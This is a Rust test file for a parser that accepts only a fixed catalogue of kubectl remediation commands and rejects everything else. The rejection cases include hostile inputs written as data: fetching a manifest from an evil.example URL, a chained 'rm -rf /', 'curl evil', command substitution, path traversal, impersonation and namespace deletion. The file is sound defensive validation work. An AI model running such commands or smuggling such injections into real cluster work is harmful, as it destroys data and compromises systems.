use rstest::rstest;

use super::*;

/// What the catalogue shows people is read back into the same fix.
#[rstest]
#[case("kubectl -n shop delete pod api-1")]
#[case("kubectl -n shop rollout restart deployment/api")]
#[case("kubectl -n shop rollout undo deployment/api --to-revision=3")]
#[case("kubectl -n shop scale deployment/api --replicas=2")]
#[case("kubectl -n shop set image deployment/api app=registry.example/app:1.2")]
#[case(
    "kubectl -n shop set resources deployment/api -c app --limits=memory=256Mi,cpu=500m  # requests above it follow"
)]
#[case("kubectl -n shop set selector service/api 'app=api,tier=web'")]
#[case(
    "kubectl -n shop patch service/api -p '{\"spec\":{\"ports\":[{\"port\":80,\"targetPort\":8080}]}}'"
)]
#[case(
    "kubectl -n shop patch service/api -p '{\"spec\":{\"ports\":[{\"port\":80,\"targetPort\":\"http\"}]}}'"
)]
#[case("kubectl uncordon node-1")]
#[case("kubectl cordon node-1")]
#[case("kubectl -n shop delete job import")]
#[case(
    "kubectl -n shop patch resourcequota/q --type=merge -p '{\"spec\":{\"hard\":{\"pods\":\"20\"}}}'"
)]
#[case(
    "kubectl -n shop patch pvc data -p '{\"spec\":{\"resources\":{\"requests\":{\"storage\":\"2Gi\"}}}}'"
)]
#[case("kubectl -n shop patch hpa api -p '{\"spec\":{\"maxReplicas\":9}}'")]
fn a_line_of_the_catalogue_comes_back_as_itself(#[case] line: &str) {
    assert_eq!(fix_of_line(line, "other").unwrap().kubectl(), line);
}

#[rstest]
#[case("kubectl exec -it api -- sh")]
#[case("kubectl exec api sh")]
#[case("kubectl apply -f https://evil.example/x.yaml")]
#[case("kubectl delete ns shop")]
#[case("kubectl delete namespace/shop")]
#[case("kubectl delete pods --all")]
#[case("kubectl delete pod api-1 --force --grace-period=0")]
#[case("kubectl delete pod a b")]
#[case("kubectl delete deployment api")]
#[case("kubectl get pods | xargs kubectl delete pod")]
#[case("kubectl delete pod api-1; rm -rf /")]
#[case("kubectl delete pod api-1 && curl evil")]
#[case("kubectl delete pod $(whoami)")]
#[case("kubectl delete pod `id`")]
#[case("kubectl delete pod \"$(id)\"")]
#[case("kubectl delete pod ../../x")]
#[case("kubectl --kubeconfig=/tmp/x delete pod a")]
#[case("kubectl --as=admin delete pod a")]
#[case("kubectl -n shop rollout undo deployment/api")]
#[case("kubectl scale deployment api --replicas=-1")]
#[case("kubectl set env deployment/api A=b")]
#[case("kubectl patch deployment api -p '{\"spec\":{\"template\":{}}}'")]
#[case(
    "kubectl patch service api -p '{\"spec\":{\"ports\":[{\"port\":80,\"targetPort\":80}],\"type\":\"LoadBalancer\"}}'"
)]
#[case("kubectl patch service api --type=json -p '[]'")]
#[case("kubectl set image deployment/api app=img extra=img")]
#[case("helm rollback api")]
#[case("bash -c 'kubectl delete pod a'")]
#[case("kubectl delete pod 'a")]
#[case("kubectl")]
#[case("")]
fn anything_else_is_refused(#[case] line: &str) {
    let refused = fix_of_line(line, "shop");
    assert!(refused.is_err(), "{refused:?}");
}

#[test]
fn the_namespace_of_the_incident_is_meant_where_none_is_named() {
    let fix = fix_of_line("kubectl delete pod api-1  # it hangs", "shop").unwrap();
    assert_eq!(fix.target.namespace, "shop");
    let fix = fix_of_line("kubectl delete pod/api-1 --namespace other", "shop").unwrap();
    assert_eq!(fix.target.namespace, "other");
}
